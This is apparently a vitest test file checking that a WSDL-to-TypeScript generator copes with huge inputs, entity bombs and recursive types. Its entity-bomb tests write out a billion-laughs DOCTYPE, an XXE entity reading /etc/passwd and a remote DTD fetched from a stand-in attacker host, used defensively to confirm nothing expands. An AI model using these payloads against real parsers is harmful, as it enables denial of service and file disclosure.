/**
 * Size and shape attacks on the generator: very large inputs, entity bombs, recursive types.
 * Each still generates (a warning where something was ignored) in bounded memory, and recursive
 * types compile. How fast is measured by `npm run bench`, never asserted here.
 */
import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import type { ServicesModel } from "../../generator/ir/types.js";
import { compileStrict } from "../support/compile.js";
import { scratchDir } from "../support/tmp.js";
import { copyInput, edit, lineOf, notable, replaceOnce, run, summary } from "./support.js";
import { arrayOf, buildWsdl, carrier } from "./wsdl-builder.js";

const scratch = scratchDir("hostile-scale");
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

function caseDir(name: string): { root: string; input: string; out: string } {
  const root = path.join(scratch, name);
  mkdirSync(root, { recursive: true });
  return { root, input: copyInput(path.join(root, "input")), out: path.join(root, "out") };
}

describe("very large inputs", () => {
  it("a WSDL with 20,000 operations (~25 MB) generates all of them", async () => {
    const root = path.join(scratch, "ops-20000");
    mkdirSync(path.join(root, "input"), { recursive: true });
    const operations = Array.from({ length: 20_000 }, (_, i) => ({ name: `Op${i}`, params: [["Id", "xs:int"], ["Name", "xs:string"]] as [string, string][], returns: i % 2 ? "tns:Node" : "xs:string" }));
    const xml = buildWsdl({ version: "Services90", agent: "Huge", noHeaders: true, operations, types: `${carrier("Node", [["Name", "xs:string"], ["Children", "tns:ArrayOfNode"]])}\n${arrayOf("Node")}` });
    expect(xml.length).toBeGreaterThan(20_000_000);
    writeFileSync(path.join(root, "input/Services90-Huge.wsdl"), xml);
    const report = await run([path.join(root, "input")], path.join(root, "out"));
    expect(report.exitCode).toBe(0);
    expect(report.versions).toEqual([{ version: "Services90", agents: 1, operations: 20_000 }]);
    // Every operation is undocumented (no pages): one warning each, nothing else.
    expect(new Set(report.diagnostics.map((d) => `${d.severity} ${d.code}`))).toEqual(new Set(["warning model.undocumented-operation"]));
    expect(report.diagnostics).toHaveLength(20_000);
    const agent = readFileSync(path.join(root, "out/services90/agents/huge.ts"), "utf8");
    expect(agent).toContain("op19999(request: HugeOp19999Request, options?: O): Promise<Node | null>;");
  });

  it("a 20 MB SOAP page (a huge example envelope) generates", async () => {
    const c = caseDir("page-20mb");
    const seed = path.join(c.input, "seeds/000_10ac530210a688d2.txt");
    const filler = `    <User:Comment>${"lorem ipsum &amp; dolor ".repeat(40)}</User:Comment>\n`;
    const text = edit(seed, (t) => replaceOnce(t, '    <User:UserName xsi:type="xsd:string">', `${filler.repeat(Math.ceil(20_000_000 / filler.length))}    <User:UserName xsi:type="xsd:string">`));
    expect(text.length).toBeGreaterThan(20_000_000);
    const report = await run([c.input], c.out);
    expect(report.exitCode).toBe(0);
    expect(summary(notable(report.diagnostics), c.input)).toEqual([]);
    // The page still documents its operation.
    expect(readFileSync(path.join(c.out, "services88/agents/user.ts"), "utf8")).toContain("Modifies an external user.");
  });
});

describe("oversized prose", () => {
  it("a 20 MB description is kept as plain text with a warning", async () => {
    const c = caseDir("prose-20mb");
    const seed = path.join(c.input, "seeds/001_0182cecb279bd4a6.txt");
    const paragraph = `${"Creates **an** associate of type <b>external</b> user. ".repeat(40)}\n\n`;
    const text = edit(seed, (t) => replaceOnce(t, "Creates an associate of type external user.\n", `Creates an associate of type external user.\n\n${paragraph.repeat(Math.ceil(20_000_000 / paragraph.length))}`));
    expect(text.length).toBeGreaterThan(20_000_000);
    const report = await run([c.input], c.out);
    expect(report.exitCode).toBe(0);
    expect(summary(notable(report.diagnostics), c.input)).toEqual([`seeds/001_0182cecb279bd4a6.txt:${lineOf(text, "## CreateExternalUser\n")}: warning: page.oversized-prose`]);
    expect(readFileSync(path.join(c.out, "services86/agents/user.ts"), "utf8")).toContain("Creates an associate of type external user.");
  });
});

describe("entity bombs", () => {
  /** Ten levels of ten references: 10^9 "lol"s if anything expanded them; plus external and parameter entities. */
  const DOCTYPE = [
    "<!DOCTYPE wsdl:definitions [",
    '  <!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`),
    '  <!ENTITY xxe SYSTEM "file:///etc/passwd">',
    '  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">',
    "  %remote;",
    "]>",
  ].join("\n");

  it("a DOCTYPE with entity definitions in a WSDL is never expanded: a warning, bounded memory", async () => {
    const c = caseDir("billion-laughs");
    const wsdl = path.join(c.input, "Services88-User.wsdl");
    const action = "http://www.superoffice.net/ws/crm/NetServer/Services88/User/SetPassword";
    const text = edit(wsdl, (t) => replaceOnce(replaceOnce(t, "?>\n", `?>\n${DOCTYPE}\n`), `soapAction="${action}"`, `soapAction="${action}&lol9;&xxe;"`));
    const heap = process.memoryUsage().heapUsed;
    const report = await run([c.input], c.out);
    expect(process.memoryUsage().heapUsed - heap).toBeLessThan(200_000_000);
    expect(report.exitCode).toBe(0);
    expect(notable(report.diagnostics)).toEqual([
      { path: path.relative(process.cwd(), wsdl), line: lineOf(text, "<!DOCTYPE"), severity: "warning", code: "wsdl.doctype", message: "DOCTYPE ignored: its 12 entity definition(s) are not expanded." },
    ]);
    expect(lineOf(text, "<!DOCTYPE")).toBe(2);
    // The references stay literal text: nothing expanded, no file read.
    const model = JSON.parse(readFileSync(path.join(c.out, "ir/Services88.json"), "utf8")) as ServicesModel;
    expect(model.agents[0].operations.find((op) => op.name === "SetPassword")?.soapAction).toBe(`${action}&lol9;&xxe;`);
    expect(readFileSync(path.join(c.out, "ir/Services88.json"), "utf8")).not.toContain("root:");
  });

  it("the same DOCTYPE in a WSDL page's fence: the warning is on the page's line", async () => {
    const c = caseDir("laughs-in-page");
    const page = path.join(c.input, "Services86-User.md");
    const text = edit(page, (t) => replaceOnce(t, '<?xml version="1.0" encoding="utf-8"?>\n', `<?xml version="1.0" encoding="utf-8"?>\n${DOCTYPE}\n`));
    const report = await run([c.input], c.out);
    expect(report.exitCode).toBe(0);
    expect(notable(report.diagnostics)).toEqual([
      { path: path.relative(process.cwd(), page), line: lineOf(text, "<!DOCTYPE"), severity: "warning", code: "wsdl.doctype", message: "DOCTYPE ignored: its 12 entity definition(s) are not expanded." },
    ]);
    expect(lineOf(text, "<!DOCTYPE")).toBe(13);
  });
});

describe("recursive types", () => {
  it("SoExceptionInfo.InnerException, a carrier holding itself through an array, and mutual recursion generate and compile", async () => {
    const root = path.join(scratch, "recursive");
    mkdirSync(path.join(root, "input"), { recursive: true });
    const types = [
      carrier("TreeNode", [["Name", "xs:string"], ["Children", "tns:ArrayOfTreeNode"], ["Parent", "tns:TreeNode"]]),
      arrayOf("TreeNode"),
      // Ping → Pong[] → Ping, and a derived carrier whose base refers to the derived one.
      carrier("Ping", [["Pongs", "tns:ArrayOfPong"]]),
      arrayOf("Pong"),
      carrier("Pong", [["Ping", "tns:Ping"]]),
      carrier("Base", [["Special", "tns:Special"]]),
      carrier("Special", [["Others", "tns:ArrayOfBase"]], "tns:Base"),
      arrayOf("Base"),
    ].join("\n");
    const operations = [
      { name: "GetTree", params: [["Root", "tns:TreeNode"]] as [string, string][], returns: "tns:ArrayOfTreeNode" },
      { name: "Bounce", params: [["Ping", "tns:Ping"], ["Base", "tns:Base"]] as [string, string][], returns: "tns:Pong" },
      { name: "Fail", returns: "tns:SoExceptionInfo" },
    ];
    writeFileSync(path.join(root, "input/Services90-Recursive.wsdl"), buildWsdl({ version: "Services90", agent: "Recursive", operations, types }));
    const report = await run([path.join(root, "input")], path.join(root, "out"));
    expect(report.exitCode).toBe(0);
    expect(new Set(report.diagnostics.map((d) => d.code))).toEqual(new Set(["model.undocumented-operation"]));
    const ts = readFileSync(path.join(root, "out/services90/types.ts"), "utf8");
    expect(ts).toContain("export interface TreeNode {\n  Name?: string | null;\n  Children?: TreeNode[] | null;\n  Parent?: TreeNode | null;\n}");
    expect(ts).toContain("InnerException?: SoExceptionInfo | null;");
    expect(ts).toContain("export interface Special extends Base {");
    expect(compileStrict(path.join(root, "out"))).toEqual([]);
  });
});
